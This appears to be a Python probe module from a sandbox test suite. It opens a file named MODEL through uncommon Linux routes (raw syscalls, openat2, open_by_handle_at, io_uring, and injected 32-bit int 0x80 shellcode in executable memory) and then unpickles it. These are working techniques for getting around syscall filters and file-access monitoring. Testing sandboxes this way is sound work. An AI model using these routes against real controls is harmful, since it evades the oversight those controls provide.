"""Ways to open a file that the standard library doesn't take. Each returns a descriptor, or raises `NotHere`."""

import ctypes
import mmap
import os
import signal
import struct

from acts import *  # What payloads call.

libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
PATH = os.fsencode(MODEL)


class NotHere(Exception):
    """This kernel has no such call, or it is switched off."""


def call(number, *arguments):
    result = libc.syscall(number, *arguments)
    if result < 0:
        error = ctypes.get_errno()
        raise NotHere(f"system call {number}: {os.strerror(error)}")
    return result


def openat():
    return os.open(PATH, os.O_RDONLY)


def open_():
    return call(2, PATH, os.O_RDONLY, 0)


def openat2():
    how = struct.pack("=QQQ", os.O_RDONLY, 0, 0)
    return call(437, AT_FDCWD, PATH, how, len(how))


def open_by_handle_at():
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
    call(303, AT_FDCWD, PATH, handle, ctypes.byref(ctypes.c_int()), 0)
    folder = os.open(os.path.dirname(PATH), os.O_RDONLY)
    return call(304, folder, handle, os.O_RDONLY)


def io_uring_openat():
    """include/uapi/linux/io_uring.h: one IORING_OP_OPENAT."""
    params = ctypes.create_string_buffer(120)
    ring = call(425, 4, params)
    fields = struct.unpack("=30I", params.raw)
    tail, mask, array = fields[11], fields[12], fields[16]
    cqes = fields[25]
    submissions = mmap.mmap(ring, array + 4 * 64, offset=0)
    completions = mmap.mmap(ring, cqes + 16 * 64, offset=0x8000000)
    entries = mmap.mmap(ring, 4096, offset=0x10000000)
    path = ctypes.create_string_buffer(PATH)
    entries[:64] = struct.pack("=BBHiQQIIQ24x", 18, 0, 0, AT_FDCWD, 0, ctypes.addressof(path), 0, os.O_RDONLY, 1)
    submissions[array : array + 4] = struct.pack("=I", 0)
    submissions[tail : tail + 4] = struct.pack("=I", 1)
    assert struct.unpack_from("=I", submissions, mask)
    call(426, ring, 1, 1, 1, None, 0)
    result = struct.unpack_from("=i", completions, cqes + 8)[0]
    if result < 0:
        raise NotHere(f"IORING_OP_OPENAT: {os.strerror(-result)}")
    return result


def ia32_open():
    """The 32-bit call table, by int 0x80: arch/x86/entry/syscalls/syscall_32.tbl."""
    libc.mmap.restype = ctypes.c_void_p
    anonymous_low = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40
    at = libc.mmap(None, ctypes.c_size_t(8192), 7, anonymous_low, -1, ctypes.c_long(0))

    def run(number, argument):
        code = b"\x53\xb8" + struct.pack("=I", number) + b"\xbb" + struct.pack("=I", argument)
        code += b"\x31\xc9\x31\xd2\xcd\x80\x5b\xc3"
        ctypes.memmove(at, code, len(code))
        return ctypes.CFUNCTYPE(ctypes.c_int)(at)()

    # Where the kernel has none, the instruction is a fault.
    child = os.fork()
    if child == 0:
        signal.signal(signal.SIGSEGV, signal.SIG_DFL)
        run(20, 0)
        os._exit(0)
    if os.waitpid(child, 0)[1] != 0:
        raise NotHere("no 32-bit calls")
    ctypes.memmove(at + 4096, PATH + b"\0", len(PATH) + 1)
    result = run(5, at + 4096)
    if result < 0:
        raise NotHere(f"32-bit open: {os.strerror(-result)}")
    return result


def load(opened):
    import pickle

    try:
        descriptor = opened()
    except NotHere as why:
        say(skipped=str(why))
        return
    with os.fdopen(descriptor, "rb") as file:
        pickle.load(file)
